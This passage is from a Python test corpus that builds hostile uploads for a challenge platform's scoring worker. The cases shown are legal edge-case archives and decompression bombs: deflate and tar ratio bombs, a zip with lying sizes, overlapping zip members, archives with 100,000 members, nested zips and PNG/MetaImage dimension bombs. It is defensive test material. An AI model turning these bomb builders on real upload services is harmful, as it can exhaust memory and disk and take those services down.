"""The hostile-upload corpus (issue 9): uploads a participant could send to break, fool or
leak from the scoring worker, each built in code, with what the platform should do with it.

Every case is a `HostileCase`: a `kind` (unique name), a `group`, the upload's file name, a
builder that returns the upload's bytes for a `Context` (the phase's two cases, their masks
and where their hidden truth labels live, so that pointer and link attacks aim at the real
files), and the expectation:

- ``failed``: the worker finishes the submission as failed, and `status_detail` matches
  `reason` (a case-insensitive regular expression for the right kind of reason) and contains
  one of `names` (the participant's own upload or member, so they know what to fix);
- ``done``: an odd but legal upload that is scored;
- ``rejected``: the API refuses the upload at once (HTTP 400).

The phase the corpus is aimed at has two cases (see `tests/platform/test_hostile_corpus.py`):
an HC18 head (``hc_case``, a PNG truth label) and a PSFHS head (``ps_case``, an uncompressed
MetaImage truth label, as the PSFHS release ships them). Most cases put the hostile file in
place of one case and a valid mask for the other, so the hostile file is the only problem.

Expectations are how the product should behave, not how it behaves today; the test reports
every case that differs. Nothing here writes to disk: builders return bytes.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import unicodedata
import zipfile
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np
from PIL import Image

MiB = 1024**2

# --------------------------------------------------------------------------------------------
# Reasons: case-insensitive regular expressions a failed submission's detail must match.

R_TRAVERSAL = r"outside|absolute|\.\.|drive letter|relative"
R_LINK = r"link"
R_SPECIAL = r"device|pipe|fifo|special|not a regular file"
R_ENCRYPTED = r"encrypt|password"
R_DUPLICATE = r"twice|duplicate|more than once|\d+ times"
R_BOMB = r"bomb|ratio|expand|exceed|larger than|too large|limit"
R_MEMBERS = r"members|too many|limit"
R_NESTED = r"nested|archive (inside|within|in) |inner archive|contains (an|another) archive"
R_EMPTY = r"empty|no label maps|no files|nothing"
R_NOT_ARCHIVE = r"not (a|an) (supported )?archive|unknown (archive )?format|not a zip|\.zip, \.tar"
R_CORRUPT = r"corrupt|truncat|damaged|invalid|incomplete|checksum|crc|ended"
R_LONG = r"too long|long|name"
R_NAME = r"name|character|NUL|null|control|encoding|UTF-8|no case|extra_file|unsupported"
R_UNREADABLE = r"cannot decode|unreadable|corrupt|truncat|not a valid|invalid|cannot read"
R_RGB = r"\brgb\b|colou?r|channel|component|alpha"
R_NOT_INTEGER = r"not_integer|NaN|infinite|non-integer|whole|fraction"
R_SHAPE = r"wrong_shape|shape|rows x cols|\d+ ?x ?\d+|volume|large|size|bomb"
R_VALUES = r"wrong_values|values"
R_POINTER = r"ElementDataFile|data file|external|LOCAL|outside|pointer|points|other file"
R_UNSUPPORTED = r"unsupported|not supported|use one of|\.mha"
R_CSV = r"csv|column|line \d+|row"
R_CSV_ROW = r"line \d+|row|not a number|not finite|positive|too few|missing"


@dataclass(frozen=True)
class Context:
    """What builders aim at: the phase's cases, their valid masks and hidden truth files."""

    hc_case: str  # e.g. "000_HC": truth label is a PNG
    hc_mask: np.ndarray  # (rows, cols) uint8 {0, 1}
    ps_case: str  # e.g. "03744": truth label is an uncompressed MetaImage
    ps_mask: np.ndarray
    #: Absolute paths of the hidden truth labels, by case id.
    truth_labels: dict[str, Path]
    #: A folder outside any scratch space where an escaping write would land (checked after).
    canary_root: Path = Path("/var/tmp")
    token: str = "corpus"

    @property
    def truth_dir(self) -> Path:
        return next(iter(self.truth_labels.values())).parent.parent

    def canary(self, name: str) -> Path:
        return self.canary_root / f"fetalbench-hostile-canary-{self.token}-{name}"


Builder = Callable[[Context], bytes]


@dataclass(frozen=True)
class HostileCase:
    kind: str
    group: str
    upload_name: str
    build: Builder
    expect: str = "failed"  # "failed" | "done" | "rejected"
    reason: str = ""  # regex a failed detail must match (case-insensitive); "" = any
    #: At least one must appear in a failed detail (the participant's upload or member).
    names: tuple[str, ...] = ()
    #: Substrings that must not appear in the detail (e.g. a forged line).
    forbidden: tuple[str, ...] = ()
    #: Paths (from the context) that must not exist afterwards: writes outside the scratch.
    canaries: Callable[[Context], list[Path]] | None = None
    note: str = ""

    def required_names(self) -> tuple[str, ...]:
        return self.names or MEMBER_NAMES.get(self.kind) or (UPLOAD,)


# --------------------------------------------------------------------------------------------
# Encoders


def png(array: np.ndarray, mode: str | None = None, **save) -> bytes:
    buffer = io.BytesIO()
    Image.fromarray(array, mode=mode).save(buffer, format="PNG", **save)
    return buffer.getvalue()


def png_palette(indices: np.ndarray) -> bytes:
    image = Image.frombytes("P", (indices.shape[1], indices.shape[0]), indices.astype(np.uint8))
    image.putpalette([0, 0, 0, 255, 0, 0] + [0, 0, 255] * 254)
    buffer = io.BytesIO()
    image.save(buffer, format="PNG")
    return buffer.getvalue()


def png_chunk(kind: bytes, data: bytes, crc: int | None = None) -> bytes:
    crc = zlib.crc32(kind + data) if crc is None else crc
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc & 0xFFFFFFFF)


def png_raw(
    width: int,
    height: int,
    rows: bytes | None = None,
    *,
    bit_depth: int = 8,
    colour: int = 0,
    ihdr_crc: int | None = None,
    idat_crc: int | None = None,
    idat: bytes | None = None,
) -> bytes:
    """A PNG from parts, for headers and chunks no encoder would write."""
    ihdr = struct.pack(">IIBBBBB", width, height, bit_depth, colour, 0, 0, 0)
    if idat is None:
        idat = zlib.compress(rows if rows is not None else b"", 9)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", ihdr, ihdr_crc)
        + png_chunk(b"IDAT", idat, idat_crc)
        + png_chunk(b"IEND", b"")
    )


def png_rows(array: np.ndarray) -> bytes:
    """Filter-type-0 scanlines of an 8-bit greyscale array."""
    return b"".join(b"\x00" + row.tobytes() for row in np.asarray(array, np.uint8))


def apng(frames: list[np.ndarray]) -> bytes:
    buffer = io.BytesIO()
    first, *rest = [Image.fromarray(f, mode="L") for f in frames]
    first.save(buffer, format="PNG", save_all=True, append_images=rest, duration=100, loop=0)
    return buffer.getvalue()


MET_TYPES = {
    np.dtype("u1"): "MET_UCHAR",
    np.dtype("i1"): "MET_CHAR",
    np.dtype("u2"): "MET_USHORT",
    np.dtype("i2"): "MET_SHORT",
    np.dtype("u4"): "MET_UINT",
    np.dtype("i4"): "MET_INT",
    np.dtype("f4"): "MET_FLOAT",
    np.dtype("f8"): "MET_DOUBLE",
}


def mha_header(fields: Iterable[tuple[str, object]]) -> bytes:
    return "".join(f"{key} = {value}\n" for key, value in fields).encode("latin-1")


def mha(
    array: np.ndarray,
    *,
    msb: bool = False,
    compressed: bool = False,
    extra: Iterable[tuple[str, object]] = (),
    dim_size: str | None = None,
    ndims: int | None = None,
    element_type: str | None = None,
    data: bytes | None = None,
) -> bytes:
    """A self-contained (ElementDataFile = LOCAL) MetaImage of `array` (rows, cols[, ...])."""
    array = np.asarray(array)
    raw = array.astype(array.dtype.newbyteorder(">" if msb else "<")).tobytes()
    if compressed:
        raw = zlib.compress(raw, 9)
    if data is not None:
        raw = data
    shape = " ".join(str(s) for s in reversed(array.shape))
    fields: list[tuple[str, object]] = [
        ("ObjectType", "Image"),
        ("NDims", ndims if ndims is not None else array.ndim),
        ("BinaryData", "True"),
        ("BinaryDataByteOrderMSB", "True" if msb else "False"),
        ("CompressedData", "True" if compressed else "False"),
    ]
    if compressed:
        fields.append(("CompressedDataSize", len(raw)))
    fields += [
        ("DimSize", dim_size or shape),
        ("ElementType", element_type or MET_TYPES[array.dtype]),
        *extra,
        ("ElementDataFile", "LOCAL"),
    ]
    return mha_header(fields) + raw


def mha_pointer(
    data_file: str,
    shape: tuple[int, int],
    *,
    header_size: int | None = -1,
    element_type: str = "MET_UCHAR",
    tail: str = "",
) -> bytes:
    """A header-only MetaImage whose pixels are `data_file` (anything but LOCAL)."""
    fields: list[tuple[str, object]] = [
        ("ObjectType", "Image"),
        ("NDims", 2),
        ("BinaryData", "True"),
        ("BinaryDataByteOrderMSB", "False"),
        ("CompressedData", "False"),
        ("DimSize", f"{shape[1]} {shape[0]}"),
        ("ElementType", element_type),
    ]
    if header_size is not None:
        fields.append(("HeaderSize", header_size))
    fields.append(("ElementDataFile", data_file))
    return mha_header(fields) + tail.encode("latin-1")


NIFTI_TYPES = {  # dtype -> (datatype code, bitpix)
    np.dtype("u1"): (2, 8),
    np.dtype("i2"): (4, 16),
    np.dtype("i4"): (8, 32),
    np.dtype("f4"): (16, 32),
    np.dtype("f8"): (64, 64),
    np.dtype("u2"): (512, 16),
    np.dtype("i8"): (1024, 64),
}


def nifti(
    array: np.ndarray | None = None,
    *,
    dims: list[int] | None = None,
    datatype: int | None = None,
    bitpix: int | None = None,
    data: bytes | None = None,
    vox_offset: float = 352.0,
    magic: bytes = b"n+1\x00",
    scl_slope: float = 0.0,
    scl_inter: float = 0.0,
    sizeof_hdr: int = 348,
    big_endian: bool = False,
) -> bytes:
    """A NIfTI-1 single file. `array` is (rows, cols) or (slices, rows, cols): NIfTI's first
    dimension is x (columns), so the dims are reversed and the C-order bytes fit as they are.
    `dims` (dim[0] first, up to 8 values) overrides what `array` implies."""
    e = ">" if big_endian else "<"
    if array is not None:
        array = np.asarray(array)
        code, bits = NIFTI_TYPES[array.dtype]
        datatype = code if datatype is None else datatype
        bitpix = bits if bitpix is None else bitpix
        if dims is None:
            dims = [array.ndim, *reversed(array.shape)]
        if data is None:
            data = array.astype(array.dtype.newbyteorder(e)).tobytes()
    assert dims is not None and datatype is not None and bitpix is not None
    dim8 = list(dims) + [1] * (8 - len(dims))
    header = bytearray(348)
    struct.pack_into(e + "i", header, 0, sizeof_hdr)
    struct.pack_into(e + "8h", header, 40, *dim8)
    struct.pack_into(e + "h", header, 70, datatype)
    struct.pack_into(e + "h", header, 72, bitpix)
    struct.pack_into(e + "8f", header, 76, 1.0, 1.0, 1.0, 1.0, 1.0, 1.0, 1.0, 1.0)
    struct.pack_into(e + "f", header, 108, vox_offset)
    struct.pack_into(e + "f", header, 112, scl_slope)
    struct.pack_into(e + "f", header, 116, scl_inter)
    struct.pack_into(e + "B", header, 123, 10)  # xyzt_units: mm, s
    header[344:348] = magic
    return bytes(header) + b"\x00\x00\x00\x00" + (data or b"")


def nifti_pair(array: np.ndarray) -> tuple[bytes, bytes]:
    """(.hdr, .img) of an Analyze-style NIfTI pair."""
    header = nifti(array, vox_offset=0.0, magic=b"ni1\x00")[:348]
    return header, np.asarray(array).astype("<u1").tobytes()


def gz(data: bytes, level: int = 9, mtime: int = 0) -> bytes:
    return gzip.compress(data, compresslevel=level, mtime=mtime)


# --------------------------------------------------------------------------------------------
# Archives


def zip_of(
    files: Iterable[tuple[str, bytes]],
    *,
    method: int = zipfile.ZIP_DEFLATED,
    force_zip64: bool = False,
    stream: bool = False,
) -> bytes:
    buffer = io.BytesIO()
    target: io.RawIOBase | io.BytesIO = _Unseekable(buffer) if stream else buffer
    with zipfile.ZipFile(target, "w", method) as archive:  # type: ignore[arg-type]
        for name, data in files:
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            info.compress_type = method
            info.external_attr = (0o40755 << 16 | 0x10) if name.endswith("/") else 0o100644 << 16
            with archive.open(info, "w", force_zip64=force_zip64) as out:
                out.write(data)
    return buffer.getvalue()


class _Unseekable(io.RawIOBase):
    """A write-only stream zipfile cannot seek in: it then writes data descriptors."""

    def __init__(self, sink: io.BytesIO) -> None:
        self._sink = sink

    def writable(self) -> bool:
        return True

    def write(self, data) -> int:  # type: ignore[override]
        return self._sink.write(data)

    def flush(self) -> None:
        pass


@dataclass
class RawZipEntry:
    """One member of a zip written byte by byte (`raw_zip`), for what zipfile will not write."""

    name: bytes
    data: bytes = b""
    method: int = 8
    flags: int = 0
    mode: int = 0o100644  # Unix mode in the high half of the external attributes
    declared_size: int | None = None  # the uncompressed size the headers claim
    crc: int | None = None
    payload: bytes | None = None  # the stored bytes, instead of compressing `data`
    central_name: bytes | None = None  # the central directory's name, if it differs
    offset: int | None = None  # the central directory's local-header offset, if it lies


def _deflate(data: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


def raw_zip(entries: list[RawZipEntry], *, local_headers: bool = True) -> bytes:
    out = bytearray()
    central = bytearray()
    dos_time, dos_date = 0, (44 << 9) | (1 << 5) | 1
    for entry in entries:
        payload = entry.payload
        if payload is None:
            payload = _deflate(entry.data) if entry.method == 8 else entry.data
        crc = zlib.crc32(entry.data) if entry.crc is None else entry.crc
        size = len(entry.data) if entry.declared_size is None else entry.declared_size
        offset = len(out)
        if local_headers:
            out += struct.pack(
                "<4s5H3L2H",
                b"PK\x03\x04",
                20,
                entry.flags,
                entry.method,
                dos_time,
                dos_date,
                crc,
                len(payload),
                size,
                len(entry.name),
                0,
            )
            out += entry.name + payload
        name = entry.central_name if entry.central_name is not None else entry.name
        central += struct.pack(
            "<4s6H3L5H2L",
            b"PK\x01\x02",
            (3 << 8) | 20,
            20,
            entry.flags,
            entry.method,
            dos_time,
            dos_date,
            crc,
            len(payload),
            size,
            len(name),
            0,
            0,
            0,
            0,
            (entry.mode << 16) & 0xFFFFFFFF,
            offset if entry.offset is None else entry.offset,
        )
        central += name
    start = len(out)
    out += central
    count = len(entries)
    if count > 0xFFFF:  # Zip64 end records carry the real count
        zip64_end = len(out)
        out += struct.pack(
            "<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, len(central), start
        )
        out += struct.pack("<4sLQL", b"PK\x06\x07", 0, zip64_end, 1)
        count = 0xFFFF
    out += struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(central), start, 0)
    return bytes(out)


@dataclass
class TarMember:
    name: str
    data: bytes = b""
    type: bytes = tarfile.REGTYPE
    linkname: str = ""
    devmajor: int = 0
    devminor: int = 0
    size: int | None = None  # declared size, if it lies (data is written as given)
    pax: dict[str, str] = field(default_factory=dict)


def tar_of(
    members: Iterable[TarMember | tuple[str, bytes]],
    *,
    compress: str = "",
    fmt: int = tarfile.PAX_FORMAT,
) -> bytes:
    """A tar (optionally gz/bz2/xz) of the members; names may carry surrogate escapes, which
    are written as the raw bytes they stand for (non-UTF-8 names)."""
    buffer = io.BytesIO()
    with tarfile.open(
        fileobj=buffer, mode="w", format=fmt, encoding="utf-8", errors="surrogateescape"
    ) as archive:
        for member in members:
            if isinstance(member, tuple):
                member = TarMember(*member)
            info = tarfile.TarInfo(member.name)
            info.type = member.type
            info.mode = 0o755 if member.type == tarfile.DIRTYPE else 0o644
            info.mtime = 1_700_000_000
            info.linkname = member.linkname
            info.devmajor, info.devminor = member.devmajor, member.devminor
            info.pax_headers = dict(member.pax)
            if member.type in (tarfile.REGTYPE, tarfile.AREGTYPE):
                info.size = len(member.data)
                archive.addfile(info, io.BytesIO(member.data))
            else:
                archive.addfile(info)
    raw = buffer.getvalue()
    return compressed(raw, compress)


def compressed(raw: bytes, how: str) -> bytes:
    if how == "gz":
        return gz(raw)
    if how == "bz2":
        return bz2.compress(raw, 9)
    if how == "xz":
        return lzma.compress(raw)
    return raw


def tar_header_offsets(raw: bytes) -> list[int]:
    """Byte offsets of each member's (first) header block in an uncompressed tar."""
    offsets = []
    with tarfile.open(fileobj=io.BytesIO(raw), mode="r:") as archive:
        for info in archive:
            offsets.append(info.offset)
    return offsets


def tar_with_lying_size(name: str, data: bytes, declared: int) -> bytes:
    """A ustar member whose header declares `declared` bytes but holds `data` (then EOF)."""
    header = bytearray(512)
    header[0 : len(name)] = name.encode()
    header[100:108] = b"0000644\x00"
    header[108:116] = b"0000000\x00"
    header[116:124] = b"0000000\x00"
    header[124:136] = f"{declared:011o}\x00".encode()
    header[136:148] = f"{1_700_000_000:011o}\x00".encode()
    header[148:156] = b" " * 8
    header[156:157] = b"0"
    header[257:263] = b"ustar\x00"
    header[263:265] = b"00"
    checksum = sum(header)
    header[148:156] = f"{checksum:06o}\x00 ".encode()
    padded = data + b"\x00" * (-len(data) % 512)
    return bytes(header) + padded + b"\x00" * 1024


def _tar_body(raw: bytes) -> bytes:
    """An uncompressed tar without its end-of-archive blocks and record padding, to append to."""
    body = raw.rstrip(b"\x00")
    return body + b"\x00" * (-len(body) % 512)


def many_empty_tar_members(n: int) -> bytes:
    """`n` empty ustar members `j/<i>` and the end-of-archive blocks, written directly (tarfile
    takes seconds for a hundred thousand members)."""
    template = bytearray(512)
    template[100:108] = b"0000644\x00"
    template[108:116] = b"0000000\x00"
    template[116:124] = b"0000000\x00"
    template[124:136] = b"00000000000\x00"
    template[136:148] = f"{1_700_000_000:011o}\x00".encode()
    template[156:157] = b"0"
    template[257:263] = b"ustar\x00"
    template[263:265] = b"00"
    template[148:156] = b" " * 8
    base = sum(template)
    blocks = []
    for i in range(n):
        name = f"j/{i}".encode()
        header = bytearray(template)
        header[: len(name)] = name
        header[148:156] = f"{base + sum(name):06o}\x00 ".encode()
        blocks.append(bytes(header))
    return b"".join(blocks) + b"\x00" * 1024


# --------------------------------------------------------------------------------------------
# Building blocks of cases

PRED = "preds/"


def hc_png(ctx: Context) -> bytes:
    return png(ctx.hc_mask)


def ps_png(ctx: Context) -> bytes:
    return png(ctx.ps_mask)


def good_hc(ctx: Context) -> tuple[str, bytes]:
    return (f"{PRED}{ctx.hc_case}.png", hc_png(ctx))


def good_ps(ctx: Context) -> tuple[str, bytes]:
    return (f"{PRED}{ctx.ps_case}.png", ps_png(ctx))


def with_ps(member: str, make: Callable[[Context], bytes]) -> Builder:
    """A zip: the valid HC mask plus `make(ctx)` as the PSFHS case's file `member`, where
    `member` may contain `{ps}` for the case id."""

    def build(ctx: Context) -> bytes:
        return zip_of([good_hc(ctx), (PRED + member.format(ps=ctx.ps_case), make(ctx))])

    return build


def with_hc(member: str, make: Callable[[Context], bytes]) -> Builder:
    def build(ctx: Context) -> bytes:
        return zip_of([(PRED + member.format(hc=ctx.hc_case), make(ctx)), good_ps(ctx)])

    return build


def valid_files(ctx: Context) -> list[tuple[str, bytes]]:
    return [good_hc(ctx), good_ps(ctx)]


def valid_zip(ctx: Context) -> bytes:
    return zip_of(valid_files(ctx))


def zeros(n: int) -> bytes:
    return b"\x00" * n


def truncate(builder: Builder, fraction: float | None = None, cut: int | None = None) -> Builder:
    """`builder`'s bytes cut at `fraction` of their length, or `cut` bytes from the end."""

    def build(ctx: Context) -> bytes:
        data = builder(ctx)
        end = int(len(data) * fraction) if fraction is not None else len(data) - (cut or 0)
        return data[:end]

    return build


def _mask_ps(ctx: Context) -> np.ndarray:
    return ctx.ps_mask.astype(np.uint8)


CASES: list[HostileCase] = []


def case(kind: str, group: str, build: Builder, expect: str = "failed", **kw) -> None:
    upload = kw.pop("upload_name", None) or f"{kind}.zip"
    CASES.append(HostileCase(kind, group, upload, build, expect, **kw))


PS = "{ps}"  # placeholders in member names and `names`: the PSFHS case id,
HC = "{hc}"  # the HC18 case id,
UPLOAD = "{upload}"  # the upload's own file name


def ps_name(ctx: Context, suffix: str) -> str:
    return f"{ctx.ps_case}{suffix}"


# --------------------------------------------------------------------------------------------
# 1. Odd but legal: these must be scored.

case("legal_zip", "legal", valid_zip, "done", note="baseline: the plain valid upload")
case(
    "legal_tar",
    "legal",
    lambda ctx: tar_of(valid_files(ctx)),
    "done",
    upload_name="legal_tar.tar",
)
for _how in ("gz", "bz2", "xz"):
    case(
        f"legal_tar_{_how}",
        "legal",
        (lambda how: lambda ctx: tar_of(valid_files(ctx), compress=how))(_how),
        "done",
        upload_name=f"legal_tar_{_how}.tar.{_how}",
    )
case(
    "legal_zip_named_tgz",
    "legal",
    valid_zip,
    "done",
    upload_name="legal_zip_named_tgz.tgz",
    note="format from content, not name",
)
case(
    "legal_upper_png",
    "legal",
    lambda ctx: zip_of([(f"PREDS/{ctx.hc_case}.PNG", hc_png(ctx)), good_ps(ctx)]),
    "done",
)
case("legal_upper_mha", "legal", with_ps(PS + ".MHA", lambda ctx: mha(_mask_ps(ctx))), "done")
case(
    "legal_upper_nii_gz",
    "legal",
    with_ps(PS + ".NII.GZ", lambda ctx: gz(nifti(_mask_ps(ctx)))),
    "done",
)
case(
    "legal_case_insensitive_name",
    "legal",
    lambda ctx: zip_of([(f"{PRED}{ctx.hc_case.lower()}.png", hc_png(ctx)), good_ps(ctx)]),
    "done",
)
case(
    "legal_png_16bit",
    "legal",
    with_ps(PS + ".png", lambda ctx: png(_mask_ps(ctx).astype(np.uint16))),
    "done",
)
case(
    "legal_png_palette",
    "legal",
    with_ps(PS + ".png", lambda ctx: png_palette(_mask_ps(ctx))),
    "done",
)
case(
    "legal_png_1bit",
    "legal",
    with_ps(PS + ".png", lambda ctx: png(_mask_ps(ctx).astype(bool))),
    "done",
)
case(
    "legal_png_0_255",
    "legal",
    with_ps(PS + ".png", lambda ctx: png(_mask_ps(ctx) * 255)),
    "done",
)
case(
    "legal_mask_fills_image",
    "legal",
    lambda ctx: zip_of(
        [
            (f"{PRED}{ctx.hc_case}.png", png(np.ones_like(ctx.hc_mask))),
            (f"{PRED}{ctx.ps_case}.png", png(np.ones_like(ctx.ps_mask))),
        ]
    ),
    "done",
)
case(
    "legal_mask_empty",
    "legal",
    lambda ctx: zip_of(
        [
            (f"{PRED}{ctx.hc_case}.png", png(np.zeros_like(ctx.hc_mask))),
            (f"{PRED}{ctx.ps_case}.png", png(np.zeros_like(ctx.ps_mask))),
        ]
    ),
    "done",
)
case(
    "legal_png_trailing_bytes",
    "legal",
    with_ps(PS + ".png", lambda ctx: png(_mask_ps(ctx)) + b"trailing junk after IEND"),
    "done",
)
case(
    "legal_nii_float_whole",
    "legal",
    with_ps(PS + ".nii", lambda ctx: nifti(_mask_ps(ctx).astype(np.float32))),
    "done",
)
case(
    "legal_nii_singleton_3d",
    "legal",
    with_ps(PS + ".nii", lambda ctx: nifti(_mask_ps(ctx)[None])),
    "done",
)
case(
    "legal_nii_4d_singletons",
    "legal",
    with_ps(
        PS + ".nii",
        lambda ctx: nifti(_mask_ps(ctx), dims=[4, *reversed(ctx.ps_mask.shape), 1, 1]),
    ),
    "done",
)
case(
    "legal_nii_big_endian_int16",
    "legal",
    with_ps(PS + ".nii", lambda ctx: nifti(_mask_ps(ctx).astype(np.int16), big_endian=True)),
    "done",
)
case(
    "legal_mha_big_endian_uint16",
    "legal",
    with_ps(PS + ".mha", lambda ctx: mha(_mask_ps(ctx).astype(np.uint16), msb=True)),
    "done",
)
case(
    "legal_mha_float_whole",
    "legal",
    with_ps(PS + ".mha", lambda ctx: mha(_mask_ps(ctx).astype(np.float32))),
    "done",
)
case(
    "legal_mha_compressed",
    "legal",
    with_ps(PS + ".mha", lambda ctx: mha(_mask_ps(ctx), compressed=True)),
    "done",
)
case(
    "legal_os_litter",
    "legal",
    lambda ctx: zip_of(
        [
            *valid_files(ctx),
            ("__MACOSX/preds/._x.png", b"\x00\x05\x16\x07junk"),
            ("preds/.DS_Store", b"\x00\x00\x00\x01Bud1"),
            ("preds/Thumbs.db", b"junk"),
            ("README.txt", b"our method: a U-Net\n"),
        ]
    ),
    "done",
)
case(
    "legal_backslash_separators",
    "legal",
    lambda ctx: zip_of(
        [(f"preds\\{ctx.hc_case}.png", hc_png(ctx)), (f"preds\\{ctx.ps_case}.png", ps_png(ctx))]
    ),
    "done",
    note="Windows zippers: docs/formats.md counts backslashes as separators",
)
case(
    "legal_dot_slash_and_dirs",
    "legal",
    lambda ctx: zip_of(
        [("./", b""), ("./preds/", b"")] + [("./" + n, d) for n, d in valid_files(ctx)]
    ),
    "done",
)
case(
    "legal_deep_folders",
    "legal",
    lambda ctx: zip_of([("d/" * 40 + n, d) for n, d in valid_files(ctx)]),
    "done",
)
case(
    "legal_zip_stored",
    "legal",
    lambda ctx: zip_of(valid_files(ctx), method=zipfile.ZIP_STORED),
    "done",
)
case(
    "legal_zip64",
    "legal",
    lambda ctx: zip_of(valid_files(ctx), force_zip64=True),
    "done",
)
case(
    "legal_zip_data_descriptors",
    "legal",
    lambda ctx: zip_of(valid_files(ctx), stream=True),
    "done",
    note="written to an unseekable stream, as `zip - ...` does",
)
case(
    "legal_tar_long_name",
    "legal",
    lambda ctx: tar_of(
        [("preds/" + "x" * 150 + f"/{ctx.hc_case}.png", hc_png(ctx)), good_ps(ctx)],
        fmt=tarfile.GNU_FORMAT,
    ),
    "done",
    upload_name="legal_tar_long_name.tar",
)
case(
    "legal_office_file_alongside",
    "legal",
    lambda ctx: zip_of(
        [
            *valid_files(ctx),
            (
                "results.xlsx",
                zip_of(
                    [
                        ("[Content_Types].xml", b'<?xml version="1.0"?><Types/>'),
                        ("xl/workbook.xml", b"<workbook/>"),
                    ]
                ),
            ),
        ]
    ),
    "done",
    note="an .xlsx is a zip by content; next to valid masks it is a file to ignore, "
    "not a nested submission (judgement call)",
)
case(
    "legal_nii_gz_inside_zip",
    "legal",
    with_ps(PS + ".nii.gz", lambda ctx: gz(nifti(_mask_ps(ctx)))),
    "done",
    note="a .nii.gz member is a gzip file but not a nested archive",
)


def _ellipse_csv(ctx: Context, rows: list[str], header: str | None = None) -> bytes:
    head = header or "filename,center_x_mm,center_y_mm,semi_axes_a_mm,semi_axes_b_mm,angle_rad"
    return ("\n".join([head, *rows]) + "\n").encode()


def _ellipse_row(ctx: Context) -> str:
    return f"{ctx.hc_case}.png,30.0,20.0,15.0,10.0,0.1"


case(
    "legal_ellipse_csv",
    "legal",
    lambda ctx: zip_of(
        [("preds/ellipses.csv", _ellipse_csv(ctx, [_ellipse_row(ctx)])), good_ps(ctx)]
    ),
    "done",
)
case(
    "legal_ellipse_csv_bom_crlf_upper_header",
    "legal",
    lambda ctx: zip_of(
        [
            (
                "preds/ellipses.csv",
                b"\xef\xbb\xbf"
                + _ellipse_csv(
                    ctx,
                    [_ellipse_row(ctx)],
                    "FILENAME,Center_X_mm,center_y_mm,semi_axes_a_mm,semi_axes_b_mm,angle_rad",
                ).replace(b"\n", b"\r\n"),
            ),
            good_ps(ctx),
        ]
    ),
    "done",
)

# --------------------------------------------------------------------------------------------
# 2. Bombs: huge ratios, lying sizes, many members, deep nesting.

_BOMB = 64 * MiB


def _zeros_deflated() -> bytes:
    return _deflate(zeros(_BOMB))


case(
    "bomb_zip_ratio",
    "bomb",
    lambda ctx: raw_zip(
        [
            RawZipEntry(f"{PRED}{ctx.hc_case}.png".encode(), zeros(_BOMB)),
            RawZipEntry(f"{PRED}{ctx.ps_case}.png".encode(), ps_png(ctx)),
        ]
    ),
    reason=R_BOMB,
)
case(
    "bomb_zip_lying_size",
    "bomb",
    lambda ctx: raw_zip(
        [
            RawZipEntry(
                f"{PRED}{ctx.hc_case}.png".encode(),
                zeros(_BOMB),
                declared_size=4096,
            ),
            RawZipEntry(f"{PRED}{ctx.ps_case}.png".encode(), ps_png(ctx)),
        ]
    ),
    reason=R_BOMB + "|" + R_CORRUPT + "|declared",
)


def _overlapping(ctx: Context) -> bytes:
    """Fifield-style overlap: many central-directory entries share one local member."""
    kernel = RawZipEntry(b"k.png", zeros(4 * MiB))
    data = raw_zip([kernel])
    cd_start = struct.unpack("<L", data[-6:-2])[0]
    local = data[:cd_start]
    central = data[cd_start:-22]
    entries = bytearray()
    n = 200
    for i in range(n):
        name = f"{PRED}m{i:03d}.png".encode()
        entry = bytearray(central)
        entry[28:30] = struct.pack("<H", len(name))
        entries += bytes(entry[:46]) + name
    eocd = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, n, n, len(entries), len(local), 0)
    return local + bytes(entries) + eocd


case("bomb_zip_overlapping_members", "bomb", _overlapping, reason=R_CORRUPT + "|" + R_BOMB)


def _many_zip(ctx: Context) -> bytes:
    entries = [RawZipEntry(f"j/{i}".encode(), b"", method=0) for i in range(100_001)]
    return raw_zip([*entries, RawZipEntry(f"{PRED}{ctx.hc_case}.png".encode(), hc_png(ctx))])


case("bomb_zip_many_members", "bomb", _many_zip, reason=R_MEMBERS)
case(
    "bomb_tar_gz_many_members",
    "bomb",
    lambda ctx: gz(_tar_body(tar_of(valid_files(ctx))) + many_empty_tar_members(100_001), level=6),
    reason=R_MEMBERS,
    upload_name="bomb_tar_gz_many_members.tar.gz",
)
for _how in ("gz", "bz2", "xz"):
    case(
        f"bomb_tar_{_how}_ratio",
        "bomb",
        (
            lambda how: (
                lambda ctx: tar_of(
                    [(f"{PRED}{ctx.hc_case}.png", zeros(_BOMB)), good_ps(ctx)], compress=how
                )
            )
        )(_how),
        reason=R_BOMB,
        upload_name=f"bomb_tar_{_how}_ratio.tar.{_how}",
    )
case(
    "bomb_gzip_of_zeros_not_tar",
    "bomb",
    lambda ctx: gz(zeros(_BOMB)),
    reason=R_BOMB + "|" + R_EMPTY + "|" + R_NOT_ARCHIVE + "|not a tar",
    upload_name="bomb_gzip_of_zeros_not_tar.tar.gz",
)


def _nested_zip(depth: int) -> Builder:
    def build(ctx: Context) -> bytes:
        data = valid_zip(ctx)
        for level in range(depth):
            data = zip_of([(f"level{level}.zip", data)])
        return data

    return build


case("bomb_nested_zip_depth_12", "bomb", _nested_zip(12), reason=R_NESTED)
case(
    "bomb_deep_folders_past_path_max",
    "bomb",
    lambda ctx: zip_of(
        [(("d" * 200 + "/") * 30 + f"{ctx.hc_case}.png", hc_png(ctx)), good_ps(ctx)]
    ),
    reason=R_LONG + "|deep|path",
)
case(
    "bomb_png_decompression_under_pixel_limit",
    "bomb",
    with_ps(
        PS + ".png", lambda ctx: png_raw(8000, 7900, idat=zlib.compress(zeros(7900 * 8001), 9))
    ),
    reason=R_SHAPE,
    names=("png",),
)
case(
    "bomb_png_declared_huge",
    "bomb",
    with_ps(PS + ".png", lambda ctx: png_raw(100_000, 100_000, png_rows(np.zeros((1, 8))))),
    reason=R_SHAPE,
    names=(".png",),
)
case(
    "bomb_mha_dimsize_1e9",
    "bomb",
    with_ps(
        PS + ".mha",
        lambda ctx: mha(_mask_ps(ctx), dim_size="1000000000 1000000000"),
    ),
